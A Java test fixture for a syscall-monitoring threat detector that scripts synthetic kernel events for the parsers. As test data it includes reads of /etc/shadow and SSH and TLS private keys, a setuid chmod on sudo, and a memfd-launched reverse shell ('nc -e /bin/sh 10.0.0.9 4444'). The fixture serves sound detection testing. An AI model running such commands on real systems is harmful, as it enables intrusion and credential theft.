package dev.peregrine.detector.syscall;

import static dev.peregrine.detector.capture.KernelRecords.AT_FDCWD;
import static dev.peregrine.detector.capture.KernelRecords.O_APPEND;
import static dev.peregrine.detector.capture.KernelRecords.O_CLOEXEC;
import static dev.peregrine.detector.capture.KernelRecords.O_CREAT;
import static dev.peregrine.detector.capture.KernelRecords.O_DIRECTORY;
import static dev.peregrine.detector.capture.KernelRecords.O_RDONLY;
import static dev.peregrine.detector.capture.KernelRecords.O_RDWR;
import static dev.peregrine.detector.capture.KernelRecords.O_TRUNC;
import static dev.peregrine.detector.capture.KernelRecords.O_WRONLY;

import dev.peregrine.detector.capture.KernelRecords;
import dev.peregrine.detector.capture.RawEvent;
import dev.peregrine.detector.container.ContainerLookup;
import dev.peregrine.detector.event.ContainerInfo;
import dev.peregrine.detector.process.ProcessTable;
import dev.peregrine.detector.process.Users;
import java.nio.file.Path;
import java.util.List;

/**
 * A scripted session of kernel records touching every syscall the parsers handle: process
 * births, execs and exits, a thread, a deep ancestry, a container, a second user, file opens of
 * every flavour (relative, via a dirfd, not normalised, failed, creating an executable), fds
 * duplicated and closed, IPv4/IPv6/unix sockets, pipes and the rest of the syscalls the stable,
 * incubating and sandbox rules use. {@code src/test/resources/syscall/factory_events.jsonl} holds
 * what the event factory (now {@link SyscallEvents}) made of it before events were built lazily
 * (commit 700aafb), with the
 * fixes since: a socket keeps the role accept, connect or listen gave it (listen, sendmsg and
 * recvmsg lines), receives show the tuple argument remote end first, as Falco's driver does, and
 * fcntl(F_SETFD) carries the fd it marks close-on-exec, bind to a port makes a server socket named
 * ip:port that listen keeps (bind and listen lines); and with the arguments since added to
 * match Falco's exit events (docs/events.md).
 */
final class ScriptedSession {
    static final Path EXPECTED = Path.of("src/test/resources/syscall/factory_events.jsonl");
    static final long BOOT_TO_EPOCH = 1_764_000_000_000_000_000L;
    static final long CONTAINER_CGROUP = 2;
    static final ContainerInfo CONTAINER = ContainerInfo.builder()
            .id("3ad7b26ded6d")
            .name("web")
            .type("docker")
            .imageRepository("docker.io/library/nginx")
            .imageTag("1.27.2")
            .privileged(true)
            .startTs(1_763_000_000_000_000_000L)
            .mounts(List.of(
                    new ContainerInfo.Mount("/var/run/docker.sock", "/var/run/docker.sock", "", true, "rprivate")))
            .build();

    private ScriptedSession() {}

    /** The syscall parsers under test: a process table that knows only what the records tell (an empty /proc). */
    static SyscallEvents factory(Path emptyProc) {
        ContainerLookup containers =
                (cgroupId, leaf, pid) -> cgroupId == CONTAINER_CGROUP ? CONTAINER : ContainerInfo.HOST;
        return new SyscallEvents(new ProcessTable(emptyProc, 1_000), new Users(emptyProc), containers, BOOT_TO_EPOCH);
    }

    static List<RawEvent> records() {
        KernelRecords k = new KernelRecords();
        // Exec records carry what the kernel decided about the exe (FLAG_EXE_*): writable, memfd, overlay layer.
        // A shell (pid 100) is born: exec, then it changes to /root.
        k.record(RawEvent.PROC_EXEC, 100, 100, "bash")
                .ppid(1)
                .flags(RawEvent.FLAG_EXE_WRITABLE)
                .string("/usr/bin/bash")
                .strings("bash", "-c", "work")
                .strings("HOME=/root", "PATH=/usr/bin:/bin")
                .execInfo(1001, 0x200000L, 0755, 0, 34816, 100, 100, 100)
                .string("session-1.scope")
                .add();
        k.syscall(80, 100, "bash", 0).string("/root").add();
        // cat (pid 101) forked and exec'd; reads /etc/shadow.
        k.record(RawEvent.PROC_FORK, 100, 100, "bash")
                .forkInfo(101, 101, 101, false, 2_000_000_000L)
                .add();
        k.record(RawEvent.PROC_EXEC, 101, 101, "cat")
                .ppid(100)
                .flags(RawEvent.FLAG_EXE_WRITABLE)
                .string("/bin/cat")
                .strings("cat", "/etc/shadow")
                .strings("HOME=/root")
                .execInfo(2002, 0x200000L, 0755, 0, 34816, 100, 101, 101)
                .string("session-1.scope")
                .add();
        k.syscall(257, 101, "cat", 3, AT_FDCWD, 0, O_RDONLY | O_CLOEXEC, 0)
                .string("/etc/shadow")
                .fileId(0xFE01, 1311)
                .add();
        k.syscall(3, 101, "cat", 0, 3).add();
        // Opens: relative to the cwd, a directory and relative to it, not normalised, failed, creating an executable.
        k.syscall(257, 101, "cat", 3, AT_FDCWD, 0, O_RDONLY, 0)
                .string("notes.txt")
                .fileId(0xFE01, 2621)
                .add();
        k.syscall(257, 101, "cat", 4, AT_FDCWD, 0, O_RDONLY | O_DIRECTORY | O_CLOEXEC, 0)
                .string("/etc")
                .fileId(0xFE01, 1281)
                .add();
        k.syscall(257, 101, "cat", 5, 4, 0, O_RDONLY, 0)
                .string("passwd")
                .fileId(0xFE01, 1305)
                .add();
        k.syscall(257, 101, "cat", 6, AT_FDCWD, 0, O_RDWR | O_APPEND, 0)
                .string("//dev/./null/")
                .fileId(5, 4)
                .add();
        k.syscall(257, 101, "cat", -2, AT_FDCWD, 0, O_RDONLY, 0)
                .string("/nope/../etc/missing")
                .fileId(0, 0)
                .add();
        k.syscall(257, 101, "cat", 7, AT_FDCWD, 0, O_WRONLY | O_CREAT | O_TRUNC, 0755)
                .string("/usr/local/bin/tool")
                .fileId(0xFE01, 3901)
                .add();
        k.syscall(257, 101, "cat", 8, AT_FDCWD, 0, O_WRONLY | O_CREAT, 0644)
                .string("/etc/cron.d/job")
                .fileId(0xFE01, 1450)
                .add();
        k.syscall(2, 101, "cat", 9, 0, O_RDONLY, 0)
                .string("/etc/hosts")
                .fileId(0xFE01, 1290)
                .add();
        k.syscall(85, 101, "cat", 10, 0, 0700)
                .string("/tmp/made")
                .fileId(0xFE01, 131079)
                .add();
        k.syscall(437, 101, "cat", 11, AT_FDCWD, 0, 24)
                .string("/etc/group")
                .openHow(O_RDWR | O_CREAT, 0711)
                .add();
        k.syscall(257, 101, "cat", -13, AT_FDCWD, 0, O_WRONLY, 0)
                .string("/proc/1/mem")
                .fileId(0, 0)
                .add();
        // Fds duplicated, closed, reused.
        k.syscall(32, 101, "cat", 12, 5).add();
        k.syscall(33, 101, "cat", 13, 5, 13).add();
        k.syscall(292, 101, "cat", 14, 4, 14, O_CLOEXEC).add();
        k.syscall(72, 101, "cat", 15, 5, 0, 15).add();
        k.syscall(72, 101, "cat", 0, 5, 2, 1).add();
        k.syscall(3, 101, "cat", 0, 12).add();
        k.syscall(3, 101, "cat", -9, 99).add();
        // Sockets: IPv4 connect, IPv6 connect in progress, accept, the data calls, unix, a netlink socket.
        k.syscall(41, 101, "cat", 16, 2, 1, 0).add();
        k.syscall(42, 101, "cat", 0, 16)
                .tuple(2, 1, 6, "10.0.0.5", 40000, "93.184.216.34", 443)
                .add();
        k.syscall(44, 101, "cat", 120, 16)
                .tuple(2, 1, 6, "10.0.0.5", 40000, "93.184.216.34", 443)
                .add();
        k.syscall(45, 101, "cat", 512, 16)
                .tuple(2, 1, 6, "10.0.0.5", 40000, "93.184.216.34", 443)
                .add();
        k.syscall(41, 101, "cat", 17, 10, 1, 6).add();
        k.syscall(42, 101, "cat", -115, 17)
                .tuple(10, 1, 6, "fd00::5", 41000, "2001:db8::1", 80)
                .add();
        k.syscall(41, 101, "cat", 18, 2, 1, 0).add();
        k.syscall(49, 101, "cat", 0, 18)
                .tuple(2, 1, 6, "0.0.0.0", 22, null, 0)
                .sockaddr(2, "0.0.0.0", 22)
                .add();
        k.syscall(50, 101, "cat", 0, 18, 128)
                .tuple(2, 1, 6, "0.0.0.0", 22, null, 0)
                .add();
        k.syscall(288, 101, "cat", 19, 18)
                .tuple(2, 1, 6, "192.168.1.2", 22, "192.168.1.77", 55555)
                .add();
        // sendmsg on a connected socket: no address, no data captured, 64 bytes in its iovecs
        k.syscall(46, 101, "cat", 64, 19)
                .tuple(2, 1, 6, "192.168.1.2", 22, "192.168.1.77", 55555)
                .param(new byte[0])
                .param(new byte[0])
                .u32(64)
                .add();
        k.syscall(47, 101, "cat", 64, 19)
                .tuple(2, 1, 6, "192.168.1.2", 22, "192.168.1.77", 55555)
                .add();
        k.syscall(41, 101, "cat", 20, 1, 1, 0).add();
        k.syscall(42, 101, "cat", 0, 20).tuple(1, 1, 0, null, 0, null, 0).add();
        k.syscall(41, 101, "cat", 21, 16, 3, 0).add();
        k.syscall(41, 101, "cat", 22, 17, 3, 768).add();
        k.syscall(41, 101, "cat", 23, 2, 2, 17).add();
        k.syscall(44, 101, "cat", 32, 23)
                .tuple(2, 2, 17, "10.0.0.5", 5353, "8.8.8.8", 53)
                .add();
        k.syscall(293, 101, "cat", 0, 0, O_CLOEXEC).fdPair(24, 25).add();
        k.syscall(53, 101, "cat", 0, 1, 1, 0).fdPair(26, 27).add();
        k.syscall(22, 101, "cat", 0).fdPair(28, 29).add();
        // The cwd follows fchdir to /etc; relative paths resolve against it.
        k.syscall(81, 101, "cat", 0, 4).add();
        k.syscall(257, 101, "cat", 30, AT_FDCWD, 0, O_RDONLY, 0)
                .string("./shadow")
                .fileId(0xFE01, 1311)
                .add();
        // Files and directories changed.
        k.syscall(59, 101, "cat", -2).string("/bin/nope").add();
        k.syscall(83, 101, "cat", 0, 0, 0755).string("/tmp/d").add();
        k.syscall(84, 101, "cat", -39).string("/tmp/d").add();
        k.syscall(87, 101, "cat", 0).string("x").add();
        k.syscall(258, 101, "cat", 0, 4, 0, 0700).string("sub").add();
        k.syscall(263, 101, "cat", 0, AT_FDCWD, 0, 0x200).string("/tmp/y").add();
        k.syscall(263, 101, "cat", 0, 4, 0, 0).string("shadow-").add();
        k.syscall(90, 101, "cat", 0, 0, 04755).string("/usr/bin/sudo").add();
        k.syscall(268, 101, "cat", 0, 4, 0, 0600).string("shadow").add();
        k.syscall(91, 101, "cat", 0, 5, 0777).add();
        k.syscall(82, 101, "cat", 0).string("/tmp/a").string("/tmp/b").add();
        k.syscall(264, 101, "cat", 0, 4, 0, 4).string("a").string("b").add();
        k.syscall(316, 101, "cat", -17, AT_FDCWD, 0, AT_FDCWD, 0, 1)
                .string("/etc/passwd")
                .string("/etc/passwd.bak")
                .add();
        k.syscall(86, 101, "cat", 0)
                .string("/etc/shadow")
                .string("/tmp/shadow-link")
                .add();
        k.syscall(265, 101, "cat", 0, AT_FDCWD, 0, 4)
                .string("/bin/sh")
                .string("sh-link")
                .add();
        k.syscall(88, 101, "cat", 0).string("/etc/shadow").string("/tmp/s").add();
        k.syscall(266, 101, "cat", 0, 0, 4)
                .string("/root/.ssh/id_rsa")
                .string("key")
                .add();
        // Privileges, namespaces, kernel modules, bpf, memfd and a syscall without special arguments.
        k.syscall(101, 101, "cat", 0, 16, 1).add();
        k.syscall(101, 101, "cat", -1, 0x4206, 77).add();
        k.syscall(105, 101, "cat", 0, 1000).add();
        k.syscall(106, 101, "cat", -1, 0xffffffffL).add();
        k.syscall(117, 101, "cat", 0, -1, 0, -1).add();
        k.syscall(119, 101, "cat", 0, 1000, 1000, 1000).add();
        k.syscall(308, 101, "cat", 0, 5, 0x40000000).add();
        k.syscall(272, 101, "cat", 0, 0x10020000).add();
        k.syscall(272, 101, "cat", 0, 0).add();
        k.syscall(321, 101, "cat", 31, 5).add();
        k.syscall(321, 101, "cat", 0, 99).add();
        k.syscall(175, 101, "cat", -1).add();
        k.syscall(313, 101, "cat", 0, 5).add();
        k.syscall(323, 101, "cat", 32).add();
        k.syscall(319, 101, "cat", 33, 0, 1).add();
        k.syscall(62, 101, "cat", 0, 1, 9).add();
        k.syscall(157, 101, "cat", 0, 15).add();
        // A thread of cat opens a file; the thread exits, then cat does; an event of the gone process.
        k.record(RawEvent.PROC_FORK, 101, 101, "cat")
                .forkInfo(102, 101, 102, true, 3_000_000_000L)
                .add();
        k.record(257, 101, 102, "cat")
                .ret(34)
                .args(AT_FDCWD, 0, O_RDONLY, 0)
                .string("/etc/ssl/private/key.pem")
                .fileId(0xFE01, 1720)
                .add();
        k.record(RawEvent.PROC_EXIT, 101, 102, "cat").args(0).add();
        k.record(RawEvent.PROC_EXIT, 101, 101, "cat").args(1).add();
        k.syscall(257, 101, "cat", 3, AT_FDCWD, 0, O_RDONLY, 0)
                .string("/etc/shadow")
                .fileId(0xFE01, 1311)
                .add();
        // A process no record introduced.
        k.syscall(257, 999, "ghost", 3, AT_FDCWD, 0, O_RDONLY, 0)
                .string("/etc/shadow")
                .fileId(0xFE01, 1311)
                .add();
        // A deep ancestry: bash > sshd > sh > python; python reads a key and runs nc from memfd on an overlay.
        k.record(RawEvent.PROC_FORK, 100, 100, "bash")
                .forkInfo(400, 400, 400, false, 4_000_000_000L)
                .add();
        k.record(RawEvent.PROC_EXEC, 400, 400, "sshd")
                .ppid(100)
                .flags(RawEvent.FLAG_EXE_WRITABLE)
                .string("/usr/sbin/sshd")
                .strings("sshd", "-D")
                .strings()
                .execInfo(4000, 0x200000L, 0755, 0, 0, 400, 400, 400)
                .string("ssh.service")
                .add();
        k.record(RawEvent.PROC_FORK, 400, 400, "sshd")
                .forkInfo(401, 401, 401, false, 4_100_000_000L)
                .add();
        k.record(RawEvent.PROC_EXEC, 401, 401, "sh")
                .ppid(400)
                .flags(RawEvent.FLAG_EXE_WRITABLE)
                .string("/bin/sh")
                .strings("sh", "-i")
                .strings("TERM=xterm")
                .execInfo(4010, 0x200000L, 0755, 0, 34817, 401, 401, 401)
                .string("ssh.service")
                .add();
        k.record(RawEvent.PROC_FORK, 401, 401, "sh")
                .forkInfo(402, 402, 402, false, 4_200_000_000L)
                .add();
        k.record(RawEvent.PROC_EXEC, 402, 402, "python3")
                .ppid(401)
                .flags(RawEvent.FLAG_EXE_WRITABLE)
                .string("python3")
                .strings("python3", "x.py")
                .strings("TERM=xterm")
                .execInfo(4020, 0, 0777, 1000, 34817, 401, 402, 401)
                .string("ssh.service")
                .add();
        k.syscall(257, 402, "python3", 3, AT_FDCWD, 0, O_RDONLY, 0)
                .string("/root/.ssh/id_rsa")
                .fileId(0xFE01, 2650)
                .add();
        k.record(RawEvent.PROC_FORK, 402, 402, "python3")
                .forkInfo(403, 403, 403, false, 4_300_000_000L)
                .add();
        k.record(RawEvent.PROC_EXEC, 403, 403, "nc")
                .ppid(402)
                .flags(RawEvent.FLAG_EXE_MEMFD | RawEvent.FLAG_EXE_OVERLAY | RawEvent.FLAG_EXE_WRITABLE)
                .string("/proc/self/fd/3")
                .strings("nc", "-e", "/bin/sh", "10.0.0.9", "4444")
                .strings()
                .execInfo(4030, 0, 0700, 0, 34817, 401, 403, 401)
                .string("ssh.service")
                .add();
        k.syscall(42, 403, "nc", 0, 3)
                .tuple(2, 1, 6, "10.0.0.5", 43000, "10.0.0.9", 4444)
                .add();
        // Another user, with a login session.
        k.record(RawEvent.PROC_FORK, 100, 100, "bash")
                .forkInfo(300, 300, 300, false, 5_000_000_000L)
                .add();
        k.record(RawEvent.PROC_EXEC, 300, 300, "vim")
                .ppid(100)
                .user(1000, 1000)
                .loginuid(1000)
                .string("/usr/bin/vim")
                .strings("vim", "/etc/sudoers")
                .strings()
                .execInfo(3000, 0, 0755, 0, 34818, 300, 300, 300)
                .string("user-1000.slice")
                .add();
        k.record(257, 300, 300, "vim")
                .user(1000, 1000)
                .loginuid(1000)
                .ret(3)
                .args(AT_FDCWD, 0, O_RDWR, 0)
                .string("/etc/sudoers")
                .fileId(0xFE01, 1330)
                .add();
        k.record(257, 300, 300, "vim")
                .user(0, 0)
                .loginuid(1000)
                .ret(4)
                .args(AT_FDCWD, 0, O_RDONLY, 0)
                .string("/etc/sudoers")
                .fileId(0xFE01, 1330)
                .add();
        // A container: its shell reads /etc/shadow and connects out.
        k.record(RawEvent.PROC_FORK, 100, 100, "bash")
                .forkInfo(200, 200, 1, false, 6_000_000_000L)
                .cgroup(CONTAINER_CGROUP)
                .add();
        k.record(RawEvent.PROC_EXEC, 200, 200, "sh")
                .ppid(100)
                .flags(RawEvent.FLAG_EXE_WRITABLE)
                .cgroup(CONTAINER_CGROUP)
                .string("/bin/sh")
                .strings("sh")
                .strings("PATH=/bin")
                .execInfo(2000, 0xa80425fbL, 0755, 0, 0, 1, 1, 1)
                .string("docker-3ad7b26ded6d0000000000000000000000000000000000000000000000000000.scope")
                .add();
        k.record(257, 200, 200, "sh")
                .cgroup(CONTAINER_CGROUP)
                .ret(3)
                .args(AT_FDCWD, 0, O_RDONLY, 0)
                .string("/etc/shadow")
                .fileId(0x34, 8401)
                .add();
        k.record(42, 200, 200, "sh")
                .cgroup(CONTAINER_CGROUP)
                .ret(0)
                .args(4)
                .tuple(2, 1, 6, "172.17.0.2", 40100, "1.1.1.1", 443)
                .add();
        k.record(RawEvent.PROC_EXIT, 200, 200, "sh")
                .cgroup(CONTAINER_CGROUP)
                .args(1)
                .add();
        // Children exit; their parent's events still have their ancestry.
        k.record(RawEvent.PROC_EXIT, 403, 403, "nc").args(1).add();
        k.syscall(3, 402, "python3", 0, 3).add();
        return k.records();
    }
}
